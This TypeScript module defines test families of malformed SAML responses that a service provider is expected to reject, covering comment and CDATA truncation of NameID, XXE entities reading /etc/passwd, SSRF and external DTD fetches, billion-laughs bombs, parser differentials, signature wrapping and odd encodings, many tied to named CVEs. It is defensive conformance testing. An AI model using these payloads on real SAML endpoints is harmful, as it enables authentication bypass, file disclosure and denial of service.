import { gzipSync, deflateRawSync } from 'node:zlib'
import { dsig, signedByHand } from '../forge'
import type { Post, Trial } from '../lab'
import { base64, before, behind, bytes, instead, parameter, type Attack, type Family } from './family'

const refused = 'SLASH_SA04 document'
/** A name that becomes another one when the rest of it is not read. */
const long = { nameId: '<saml:NameID>victim.evil</saml:NameID>' }

const comment = (name: string, mark: string | RegExp, text = '<!-- -->'): Attack => ({
  name: `a comment ${name}`,
  expects: refused,
  make: (t) => behind(t.signed(), mark, text),
})

/** Comments and their like are not signed, and cut texts for who reads only the first node. */
export const truncation: Family = {
  name: 'comments, processing instructions and CDATA in what is signed',
  controls: [
    { name: 'characters written as references', make: (t) => t.signed().replace('>taro<', '>&#116;a&#x72;o<') },
    { name: 'other quotes and blanks in tags', make: (t) => t.signed().replace('Version="2.0"', "\n Version = '2.0'\t") },
    {
      name: 'a namespace that nobody uses',
      make: (t) => t.signed().replace('<saml:Assertion ', '<saml:Assertion xmlns:xs="urn:xs" '),
    },
    {
      name: 'an XML declaration and line feeds',
      make: (t) => `<?xml version='1.0' encoding="utf-8" standalone='no'?>\r\n${t.signed()}\n`,
    },
  ],
  attacks: [
    {
      name: 'a comment that cuts the NameID',
      known: 'CVE-2017-11427 to -11430, CVE-2018-0489',
      expects: refused,
      make: (t) => instead(t.signed(long), '>victim.evil<', '>victim<!---->.evil<'),
    },
    {
      name: 'the same in a signed Response',
      known: 'CVE-2017-11427 to -11430, CVE-2018-0489',
      expects: refused,
      make: (t) => instead(t.whole(long), '>victim.evil<', '>victim<!---->.evil<'),
    },
    {
      name: 'a CDATA section that cuts the NameID',
      expects: refused,
      make: (t) => instead(t.signed(long), '>victim.evil<', '>victim<![CDATA[.evil]]><'),
    },
    {
      name: 'a processing instruction that cuts the NameID, signed',
      expects: refused,
      make: (t) => instead(t.signed(long), '>victim.evil<', '>victim<?x ?>.evil<'),
    },
    {
      name: 'a processing instruction that is digested like the name',
      known: 'xml-crypto prints it as text',
      expects: refused,
      make: (t) => instead(t.signed({ nameId: '<saml:NameID>x victim</saml:NameID>' }), '>x victim<', '><?x victim?><'),
    },
    comment('in the Issuer', '<saml:Issuer>'),
    comment('in the Audience', '<saml:Audience>'),
    comment('in front of the signature', '</saml:Issuer>'),
    comment('in the signature', '<ds:SignedInfo>'),
    comment('in the Status', '<samlp:Status>'),
    comment('behind the root', '</samlp:Response>'),
    comment('that never ends', '<samlp:Status>', '<!--'),
    comment('with two hyphens', '<samlp:Status>', '<!-- -- -->'),
    { name: 'a comment in front of the root', expects: refused, make: (t) => `<!-- -->${t.signed()}` },
    {
      name: 'a style sheet instruction',
      expects: refused,
      make: (t) => `<?xml-stylesheet href="http://127.0.0.1:1/x.xsl"?>${t.signed()}`,
    },
    { name: 'two XML declarations', expects: refused, make: (t) => `<?xml version="1.0"?><?xml version="1.0"?>${t.signed()}` },
    {
      name: 'an XML declaration inside',
      expects: refused,
      make: (t) => behind(t.signed(), '<samlp:Status>', '<?xml version="1.0"?>'),
    },
  ],
}

const doctype = (name: string, declaration: string, known?: string, change = (xml: string) => xml): Attack => ({
  name,
  ...(known !== undefined && { known }),
  expects: refused,
  make: (t) => declaration.replace('OUTSIDE', t.outside.url) + change(t.signed()),
})
const nameIs = (text: string) => (xml: string) => instead(xml, '>taro<', `>${text}<`)
const laughs = [
  '<!ENTITY a "ha">',
  ...'bcdefghij'.split('').map((c, i) => `<!ENTITY ${c} "${`&${'abcdefghij'[i]};`.repeat(10)}">`),
].join('')

/** Document type definitions, entities and references to elsewhere. Nothing may be fetched. */
export const entities: Family = {
  name: 'DTD, entities and external references',
  controls: [
    {
      name: 'schemaLocation, which is not followed',
      make: (t) =>
        instead(
          t.signed(),
          'Version="2.0"',
          `Version="2.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${t.outside.url}/x.xsd"`,
        ),
    },
    {
      name: 'something to fetch in KeyInfo, which is not looked at',
      make: (t) =>
        before(
          t.signed(),
          '</ds:Signature>',
          `<ds:KeyInfo><x:CipherReference xmlns:x="http://www.w3.org/2001/04/xmlenc#" URI="${t.outside.url}"/></ds:KeyInfo>`,
        ),
    },
  ],
  attacks: [
    doctype('a DTD', '<!DOCTYPE Response>', 'samlify'),
    doctype('a DTD with an entity that nobody uses', '<!DOCTYPE x [<!ENTITY e "victim">]>', 'samlify'),
    doctype('an entity for the NameID', '<!DOCTYPE x [<!ENTITY e "victim">]>', undefined, nameIs('&e;')),
    doctype('an entity of a file (XXE)', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 'XXE', nameIs('&e;')),
    doctype('an entity of a web page (SSRF)', '<!DOCTYPE x [<!ENTITY e SYSTEM "OUTSIDE/e">]>', 'XXE', nameIs('&e;')),
    doctype('an external DTD', '<!DOCTYPE x SYSTEM "OUTSIDE/x.dtd">', 'XXE'),
    doctype('a public DTD', '<!DOCTYPE x PUBLIC "-//X" "OUTSIDE/x.dtd">', 'XXE'),
    doctype('a parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "OUTSIDE/p"> %p;]>', 'XXE'),
    doctype('a billion laughs', `<!DOCTYPE x [${laughs}]>`, 'entity bomb', nameIs('&j;')),
    doctype(
      'a quadratic entity bomb',
      `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>`,
      'entity bomb',
      nameIs('&a;'.repeat(2_000)),
    ),
    doctype('an entity in an attribute', '<!DOCTYPE x [<!ENTITY e "2.0">]>', undefined, (xml) =>
      instead(xml, 'Version="2.0"', 'Version="&e;"'),
    ),
    doctype('an attribute that the DTD declares an ID', '<!DOCTYPE x [<!ATTLIST x a ID #IMPLIED>]>', 'CVE-2025-23369 GHES'),
    doctype('an attribute by default', '<!DOCTYPE x [<!ATTLIST x ID CDATA "_assertion">]>'),
    doctype('a DTD in small letters', '<!doctype x>'),
    { name: 'a DTD inside', expects: refused, make: (t) => behind(t.signed(), '<samlp:Status>', '<!DOCTYPE x>') },
    { name: 'a DTD behind the root', expects: refused, make: (t) => `${t.signed()}<!DOCTYPE x>` },
    { name: 'an entity without DTD', expects: refused, make: (t) => nameIs('&victim;')(t.signed()) },
    { name: 'an entity of HTML', expects: refused, make: (t) => nameIs('victim&nbsp;')(t.signed()) },
    { name: 'an ampersand', expects: refused, make: (t) => nameIs('a&b')(t.signed()) },
    {
      name: 'XInclude',
      expects: refused,
      make: (t) =>
        before(t.signed(), '<saml:Assertion', `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${t.outside.url}"/>`),
    },
    {
      name: 'a RetrievalMethod in KeyInfo',
      expects: refused,
      make: (t) => before(t.signed(), '</ds:Signature>', `<ds:KeyInfo><ds:RetrievalMethod URI="${t.outside.url}"/></ds:KeyInfo>`),
    },
    {
      name: 'a Reference to a web page, signed',
      expects: 'SLASH_SA04 signature',
      make: (t) => signedByHand(t.idp, t.response(t.assertion()), t.right.assertionId, { uri: `${t.outside.url}/evil` }),
    },
  ],
}

const odd = (name: string, make: (xml: string, t: Trial) => string, known?: string): Attack => ({
  name,
  ...(known !== undefined && { known }),
  expects: refused,
  make: (t) => make(t.signed(), t),
})
const inExtensions = (xml: string, more: string) => before(xml, '<samlp:Status>', `<samlp:Extensions>${more}</samlp:Extensions>`)

/** What two parsers read differently. */
export const differentials: Family = {
  name: 'parser differentials and IDs',
  controls: [
    {
      name: 'elements of any kind in Extensions',
      make: (t) => inExtensions(t.signed(), '<x y="z" xmlns:a="urn:a" a:b=""><a:c/></x>'),
    },
    {
      name: 'an ID of its own on another element',
      make: (t) => inExtensions(t.signed(), '<x ID="_x"/><x Id="_y"/><x id="_z"/>'),
    },
  ],
  attacks: [
    odd('text in front of the root', (xml) => `x${xml}`, 'xmldom'),
    odd('text behind the root', (xml) => `${xml}x`, 'xmldom'),
    odd('a second root', (xml) => `${xml}<x/>`, 'CVE-2022-39353 xmldom'),
    odd(
      'the same attribute twice',
      (xml) => instead(xml, 'Version="2.0"', 'Version="2.0" Version="2.0"'),
      'CVE-2025-66567 ruby-saml',
    ),
    odd('one attribute under two prefixes', (xml) =>
      inExtensions(xml, '<x xmlns:a="urn:a" xmlns:b="urn:a" a:c="1" b:c="2" xml:id="_assertion"/>'),
    ),
    odd(
      'an attribute that only looks like a namespace',
      (xml) => instead(xml, 'Version="2.0"', 'Version="2.0" xmlnsx="1"'),
      'CVE-2025-66567 ruby-saml',
    ),
    odd('the prefix xmlns declared', (xml) => inExtensions(xml, '<x xmlns:xmlns="urn:x"/>'), 'CVE-2025-66567 ruby-saml'),
    odd('the prefix xml declared', (xml) => inExtensions(xml, '<x xmlns:xml="urn:x"/>')),
    odd('a prefix that is not declared', (xml) => inExtensions(xml, '<y:x/>'), 'CVE-2020-29509 Go'),
    odd('an attribute prefix that is not declared', (xml) => inExtensions(xml, '<x y:z=""/>')),
    odd('a name with two colons', (xml) => inExtensions(xml, '<a:b:c xmlns:a="urn:a"/>'), 'CVE-2020-29510 Go'),
    odd('a name that begins with a colon', (xml) => inExtensions(xml, '<:x/>'), 'CVE-2020-29511 Go'),
    odd('an attribute without value', (xml) => inExtensions(xml, '<x a/>')),
    odd('an attribute without quotes', (xml) => inExtensions(xml, '<x a=b/>')),
    odd('attributes without a blank between them', (xml) => inExtensions(xml, '<x a="1"b="2"/>')),
    odd('< in an attribute', (xml) => inExtensions(xml, '<x a="<"/>'), 'CVE-2025-25291 ruby-saml'),
    odd('a tag that closes another', (xml) => inExtensions(xml, '<x><y></x></y>')),
    odd('a tag that is never closed', (xml) => inExtensions(xml, '<x>')),
    odd('an end tag too many', (xml) => inExtensions(xml, '</x>')),
    odd('an end tag with attributes', (xml) => inExtensions(xml, '<x></x a="b">')),
    odd('a blank in front of a name', (xml) => inExtensions(xml, '< x/>')),
    odd('a NUL', (xml) => inExtensions(xml, '\u0000')),
    odd('a control character', (xml) => instead(xml, '>taro<', '>taro\u0008<')),
    odd('U+FFFE', (xml) => instead(xml, '>taro<', '>taro\ufffe<')),
    odd('an ID twice', (xml, t) => inExtensions(xml, `<x ID="${t.right.assertionId}"/>`), 'XSW'),
    odd('the ID of the Response for the Assertion', (xml, t) => xml.replaceAll(t.right.assertionId, '_response')),
    ...['Id', 'id'].map((name) =>
      odd(`the ID once more as ${name}`, (xml, t) => inExtensions(xml, `<x ${name}="${t.right.assertionId}"/>`)),
    ),
    odd('the ID once more as xml:id', (xml, t) => inExtensions(xml, `<x xml:id="${t.right.assertionId}"/>`)),
    odd('the ID once more under a prefix', (xml, t) => inExtensions(xml, `<x xmlns:a="urn:a" a:ID="${t.right.assertionId}"/>`)),
    odd('ID and Id on the Assertion', (xml) =>
      instead(xml, '<saml:Assertion ', '<saml:Assertion Id="_other" ').replace(
        '<samlp:Status>',
        '<samlp:Extensions><x ID="_other"/></samlp:Extensions><samlp:Status>',
      ),
    ),
    odd('an Assertion without ID', (xml, t) => xml.replace(` ID="${t.right.assertionId}"`, '')),
    odd('an Assertion with an empty ID', (xml, t) => xml.replaceAll(t.right.assertionId, '')),
    odd('an ID that is an XPath', (xml, t) => xml.replaceAll(t.right.assertionId, "x' or @ID='y")),
    odd(
      'a DigestValue of XML Signature anywhere',
      (xml) => inExtensions(xml, `<DigestValue xmlns="${dsig}"/>`),
      'CVE-2024-45409 ruby-saml',
    ),
    odd('text between the parts of the Response', (xml) => before(xml, '<samlp:Status>', 'x')),
    odd('text between the parts of the Assertion', (xml) => before(xml, '<saml:Subject>', 'x')),
    odd('a Signature behind the Status', (xml) =>
      xml.replace(/(<samlp:Status>.*<\/samlp:Status>)(.*)(<ds:Signature .*<\/ds:Signature>)/s, '$1$3$2'),
    ),
    odd('two Statuses', (xml) => xml.replace(/<samlp:Status>.*<\/samlp:Status>/, '$&$&')),
    odd('no Status', (xml) => instead(xml, /<samlp:Status>.*<\/samlp:Status>/, '')),
    odd('two Issuers in the Response', (xml) => xml.replace(/<saml:Issuer .*?<\/saml:Issuer>/, '$&$&')),
    odd('names in capitals', (xml) => xml.replaceAll('saml:Assertion', 'saml:ASSERTION')),
  ],
}

const encoded = (name: string, make: (xml: string) => Buffer): Attack => ({
  name,
  expects: refused,
  make: (t) => bytes(make(t.signed())),
})
const declared = (encoding: string): Attack => ({
  name: `UTF-8 that is declared ${encoding}`,
  expects: refused,
  make: (t) => `<?xml version="1.0" encoding="${encoding}"?>${t.signed()}`,
})
const utf16be = (text: string) => Buffer.from(text, 'utf16le').swap16()
const overlong = (xml: string) => Buffer.from(Buffer.from(xml).toString('latin1').replace(/^</, '\xc0\xbc'), 'latin1')
const sent = (name: string, make: (xml: string) => Post): Attack => ({ name, expects: refused, make: (t) => make(t.signed()) })

/** Bytes that are not UTF-8 in strict base64. */
export const encodings: Family = {
  name: 'encodings',
  controls: [
    { name: 'base64 in lines', make: (t) => parameter(base64(t.signed()).replace(/.{76}/g, '$&\r\n')) },
    { name: 'a name outside of the BMP elsewhere', make: (t) => t.signed({ attributes: attribute('𠮷野家 🍣') }) },
  ],
  attacks: [
    encoded('UTF-16, little endian, with a byte order mark', (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le')),
    encoded('UTF-16, big endian, with a byte order mark', (xml) => utf16be(`\ufeff${xml}`)),
    encoded('UTF-16 without a byte order mark', (xml) => Buffer.from(xml, 'utf16le')),
    encoded('UTF-32', (xml) => Buffer.from([...xml].flatMap((c) => [c.charCodeAt(0), 0, 0, 0]))),
    encoded('UTF-8 with a byte order mark', (xml) => Buffer.from(`\ufeff${xml}`)),
    encoded('two bytes for <', overlong),
    encoded('two bytes for NUL', (xml) =>
      Buffer.concat([Buffer.from(xml.slice(0, 100)), Buffer.of(0xc0, 0x80), Buffer.from(xml.slice(100))]),
    ),
    encoded('half a surrogate pair (CESU-8)', (xml) =>
      Buffer.from(Buffer.from(xml).toString('latin1').replace('taro', 'taro\xed\xa0\x80'), 'latin1'),
    ),
    encoded('a character that is cut off', (xml) => Buffer.concat([Buffer.from(xml), Buffer.of(0xe3, 0x81)])),
    encoded('ISO-8859-1', (xml) => Buffer.from(xml.replace('taro', 't\xe4ro'), 'latin1')),
    encoded('UTF-7', (xml) => Buffer.from(xml.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'))),
    encoded('gzip', (xml) => gzipSync(xml)),
    encoded('raw deflate, as in HTTP-Redirect', (xml) => deflateRawSync(xml)),
    encoded('base64 twice', (xml) => Buffer.from(base64(xml))),
    encoded('a line feed in front', (xml) => Buffer.from(`\n${xml}`)),
    ...['UTF-16', 'UTF-7', 'ISO-2022-JP', 'Shift_JIS', 'IBM037', 'utf-8x', ''].map(declared),
    sent('XML as it is', (xml) => parameter(xml)),
    sent('base64url', (xml) => parameter(Buffer.from(`${xml}${'\u{10ffff}'.repeat(9)}`).toString('base64url'))),
    sent('base64 without padding', (xml) =>
      parameter(base64(`${xml}${' '.repeat((4 - (Buffer.byteLength(xml) % 3)) % 3)}`).replace(/=+$/, '')),
    ),
    sent('base64 with other characters among it', (xml) => parameter(base64(xml).replace(/.{50}/, '$&-_.!'))),
    sent('base64 with a NUL', (xml) => parameter(base64(xml).replace(/.{50}/, '$&\u0000'))),
    sent('base64 behind data:', (xml) => parameter(`data:text/xml;base64,${base64(xml)}`)),
    sent('base64 with something behind its end', (xml) =>
      parameter(`${base64(`${xml} `.padEnd(Math.ceil((xml.length + 1) / 3) * 3 + 1))}AAAA`),
    ),
    sent('base64 with bits that are not used', (xml) =>
      parameter(base64(`${xml}${' '.repeat((4 - (Buffer.byteLength(xml) % 3)) % 3)}`).replace(/A==$/, 'B==')),
    ),
    sent('percent-encoded twice', (xml) => parameter(encodeURIComponent(base64(xml)).replaceAll('+', '%2B'))),
  ],
}

const attribute = (value: string) =>
  `<saml:AttributeStatement><saml:Attribute Name="x"><saml:AttributeValue>${value}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>`
